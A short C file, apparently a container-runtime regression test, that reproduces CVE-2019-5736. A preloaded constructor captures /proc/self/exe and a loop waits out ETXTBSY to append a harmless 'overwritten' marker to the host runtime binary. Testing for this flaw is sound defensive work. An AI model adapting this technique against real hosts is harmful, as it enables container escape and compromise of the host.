/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite FILE: appends to it as soon as nobody executes it any more. CVE-2019-5736.
 * Built a second time as a library that the runtime, executed as the container's program, loads
 * from the image: it keeps a descriptor of its binary, and becomes the program above.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#ifdef PRELOADED
__attribute__((constructor)) static void begin(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);
	if (fd < 0 || dup2(fd, 9) < 0)
		return;
	execl("/bin/overwrite", "overwrite", "/proc/self/fd/9", (char *)0);
}
#else
int main(int argc, char **argv)
{
	char text[64] = "";
	const struct timespec pause = { 0, 10000000 };
	if (argc != 2)
		return 2;
	for (int i = 0; i < 150; i++) {
		int fd = open(argv[1], O_WRONLY | O_APPEND);
		if (fd >= 0)
			return write(fd, "overwritten", 11) == 11 ? 0 : 1;
		if (errno != ETXTBSY)
			break;
		nanosleep(&pause, NULL);
	}
	snprintf(text, sizeof text, "%s: %s\n", argv[1], strerror(errno));
	return write(1, text, strlen(text)) < 0 ? 2 : 1;
}
#endif
